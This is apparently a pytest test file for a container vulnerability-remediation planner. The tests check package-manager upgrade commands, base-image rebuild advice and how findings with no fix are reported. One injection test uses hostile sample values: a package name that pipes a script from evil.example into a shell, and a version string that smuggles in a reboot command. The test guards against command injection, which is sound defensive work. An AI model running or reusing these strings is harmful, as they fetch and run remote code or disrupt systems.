"""What to do about packages of the distribution."""

from __future__ import annotations

import pytest
from remedying import ALPINE_318, DEBIAN_12, flaw, held, image, plan

from shipworthy.model.package import Distro


APT = held("deb", "apt", "2.6.2")
PERL = held("deb", "perl-base", "5.36.0-7+deb12u3", source="perl")
LIBSSL = held("deb", "libssl3", "3.0.20-1~deb12u2", source="openssl")
OPENSSL = held("deb", "openssl", "3.0.20-1~deb12u2")


def test_one_command_a_layer_upgrades_all_that_a_source_builds_to_the_last_fix() -> (
    None
):
    """Debian 12's openssl: two DSAs, the later fix closes both, and both binaries are named with it."""
    findings = [
        flaw("CVE-2026-1", OPENSSL, "3.0.22-1~deb12u1", layer=1),
        flaw("CVE-2026-2", OPENSSL, "3.0.22-1~deb12u2", layer=1),
        flaw("CVE-2026-1", LIBSSL, "3.0.22-1~deb12u1", layer=1),
        flaw("CVE-2026-2", LIBSSL, "3.0.22-1~deb12u2", layer=1),
    ]
    (action,) = plan(
        findings,
        APT,
        of=image("ADD rootfs /", "RUN apt-get install -y openssl"),
        distro=DEBIAN_12,
    )
    assert action.kind == "os-packages"
    assert action.title == "Upgrade openssl to 3.0.22-1~deb12u2"
    assert action.command == (
        "apt-get update && apt-get install -y --only-upgrade"
        " libssl3=3.0.22-1~deb12u2 openssl=3.0.22-1~deb12u2"
        " && rm -rf /var/lib/apt/lists/*"
    )
    assert len(action.closes) == 4
    assert action.layer == 1
    assert action.instruction == "RUN apt-get install -y openssl"
    assert "bookworm-security" in action.detail


def test_a_binary_that_counts_otherwise_than_its_source_is_upgraded_without_a_version() -> (
    None
):
    """Libdevmapper of lvm2 has versions of its own; lvm2's fixed version is none of them."""
    devmapper = held(
        "deb",
        "libdevmapper1.02.1",
        "2:1.02.185-2",
        source="lvm2",
        source_version="2.03.16-2",
    )
    (action,) = plan(
        [flaw("CVE-2020-8991", devmapper, "2.03.16-3", compared="2.03.16-2")],
        APT,
        distro=DEBIAN_12,
    )
    assert "--only-upgrade libdevmapper1.02.1 &&" in action.command
    assert [one.target for one in action.upgrades] == [""]
    assert action.title == "Upgrade lvm2 to 2.03.16-3"


def test_what_the_base_image_brought_is_first_of_all_its_maker_s() -> None:
    """Where most of the risk is in the base image a newer build of it is the action, the command the way round."""
    findings = [
        flaw("CVE-2026-8376", PERL, "5.36.0-7+deb12u4", origin="base", score=30),
        flaw("CVE-2026-1", OPENSSL, "3.0.22-1~deb12u2", layer=1, score=10),
    ]
    base, own = plan(
        findings,
        APT,
        of=image("ADD rootfs /", "RUN apt-get install openssl", base=1, base_name="d"),
        distro=DEBIAN_12,
    )
    assert (base.kind, base.origin, base.layer) == ("base", "base", -1)
    assert base.title == "Upgrade the base image d: perl"
    assert (
        "Or, until it is rebuilt, add after FROM: apt-get update && apt-get install -y"
        " --only-upgrade perl-base=5.36.0-7+deb12u4" in base.detail
    )
    assert base.command == ""
    assert (own.kind, own.origin, own.layer) == ("os-packages", "own", 1)


def test_the_command_does_it_where_the_base_image_is_the_smaller_part() -> None:
    """With most risk in layers of our own, what the base image brought is one more command."""
    findings = [
        flaw("CVE-2026-8376", PERL, "5.36.0-7+deb12u4", origin="base", score=10),
        flaw("CVE-2026-1", OPENSSL, "3.0.22-1~deb12u2", layer=1, score=30),
    ]
    own, base = plan(findings, APT, distro=DEBIAN_12)
    assert own.origin == "own"
    assert (base.kind, base.origin) == ("os-packages", "base")
    assert "perl-base=5.36.0-7+deb12u4" in base.command


def test_without_a_package_manager_only_the_base_image_helps() -> None:
    """Distroless: packages and no apt, so nothing can be run in it."""
    libssl = held("deb", "libssl3", "3.0.20-1~deb12u2", source="openssl")
    (action,) = plan(
        [flaw("CVE-2026-1", libssl, "3.0.22-1~deb12u2", origin="unknown")],
        distro=DEBIAN_12,
    )
    assert action.kind == "base"
    assert action.command == ""
    assert "no package manager" in action.detail
    assert "apt-get" not in action.detail


def test_of_an_unknown_origin_the_layer_is_told_and_nothing_of_a_base() -> None:
    """Nobody said which layers are the base image's."""
    (action,) = plan(
        [flaw("CVE-2026-8376", PERL, "5.36.0-7+deb12u4", origin="unknown")],
        APT,
        of=image("RUN debootstrap bookworm"),
        distro=DEBIAN_12,
    )
    assert action.kind == "os-packages"
    assert action.origin == "unknown"
    assert "layer 0 (RUN debootstrap bookworm)" in action.detail
    assert "base image" not in action.detail


@pytest.mark.parametrize(
    ("type_", "program", "name", "now", "then", "command"),
    [
        (
            "apk",
            "apk-tools",
            "libcrypto3",
            "3.1.3-r0",
            "3.1.4-r0",
            "apk add --no-cache 'libcrypto3>=3.1.4-r0'",
        ),
        (
            "rpm",
            "dnf",
            "openssl-libs",
            "1:3.0.7-17.el9_2",
            "1:3.0.7-18.el9_2",
            "dnf upgrade -y openssl-libs-1:3.0.7-18.el9_2 && dnf clean all",
        ),
        (
            "rpm",
            "microdnf",
            "openssl-libs",
            "1:3.0.7-17.el9_2",
            "1:3.0.7-18.el9_2",
            "microdnf upgrade -y openssl-libs-1:3.0.7-18.el9_2 && microdnf clean all",
        ),
        (
            "rpm",
            "yum",
            "openssl-libs",
            "1:1.0.2k-24.el7",
            "1:1.0.2k-26.el7_9",
            "yum update -y openssl-libs-1:1.0.2k-26.el7_9 && yum clean all",
        ),
        (
            "rpm",
            "zypper",
            "libopenssl3",
            "3.0.8-150500.5.3.1",
            "3.0.8-150500.5.8.1",
            (
                "zypper --non-interactive install 'libopenssl3>=3.0.8-150500.5.8.1'"
                " && zypper clean --all"
            ),
        ),
        (
            "rpm",
            "tdnf",
            "openssl",
            "1.1.1k-21.cm2",
            "1.1.1k-27.cm2",
            "tdnf update -y openssl && tdnf clean all",
        ),
        (
            "alpm",
            "pacman",
            "openssl",
            "3.0.7-1",
            "3.0.7-2",
            "pacman -Syu --noconfirm",
        ),
    ],
)
def test_the_command_is_that_of_the_image_s_package_manager(
    type_: str, program: str, name: str, now: str, then: str, command: str
) -> None:
    """Each manager's own way to ask for a version at least."""
    found = flaw("CVE-2023-5363", held(type_, name, now), then)
    (action,) = plan([found], held(type_, program, "1"))
    assert action.command == command


def test_what_is_no_package_s_name_is_pasted_into_no_command() -> None:
    """A database of packages is as hostile as the image it is in."""
    bad = held("apk", "x; curl evil.example|sh #", "1")
    (action,) = plan([flaw("CVE-1", bad, "2")], held("apk", "apk-tools", "2"))
    assert action.command == ""
    worse = held("apk", "musl", "1.2.4-r2")
    (action,) = plan(
        [flaw("CVE-1", worse, "1.2.4-r3' && reboot '")], held("apk", "apk-tools", "2")
    )
    assert action.command == ""


def test_findings_without_a_fix_are_told_together_by_the_reason() -> None:
    """One entry a reason, however many CVEs, and it closes nothing."""
    perl, tar = held("deb", "perl-base", "5.36"), held("deb", "tar", "1.34")
    findings = [
        flaw("CVE-2011-4116", perl, fix_state="will-not-fix"),
        flaw("CVE-2023-31486", perl, score=5),
        flaw("CVE-2005-2541", tar, score=6),
    ]
    waiting, refused = plan(findings, APT, distro=DEBIAN_12)
    assert waiting.title == "Debian has no fix yet for 2 findings in 2 packages"
    assert refused.title == "Debian will not fix 1 finding in 1 package"
    assert {one.kind for one in (waiting, refused)} == {"none"}
    assert waiting.closes == refused.closes == ()
    assert waiting.findings == (
        "CVE-2005-2541 tar@1.34",
        "CVE-2023-31486 perl-base@5.36",
    )


def test_a_fix_that_needs_a_subscription_is_none_and_says_so() -> None:
    """Ubuntu 18.04: the fix is in Ubuntu Pro, and an update does not bring it."""
    tar = held("deb", "tar", "1.29b-2ubuntu0.4")
    (action,) = plan(
        [flaw("CVE-2023-39804", tar, needs="Ubuntu Pro (esm-infra)")],
        APT,
        distro=Distro(id="ubuntu", version="18.04"),
    )
    assert action.kind == "none"
    assert (
        action.title == "Ubuntu Pro (esm-infra) has the fix of 1 finding in 1 package"
    )
    assert "not set up for Ubuntu Pro (esm-infra)" in action.detail


def test_a_fix_that_is_made_and_not_yet_released_is_waited_for() -> None:
    """A fix in no repository of the release is out of reach of any command."""
    (action,) = plan(
        [flaw("CVE-2024-1", held("apk", "curl", "8.5.0-r0"), needs="unreleased")],
        held("apk", "apk-tools", "2"),
        distro=ALPINE_318,
    )
    assert action.kind == "none"
    assert action.title.startswith("Alpine has made, but not yet released the fix")
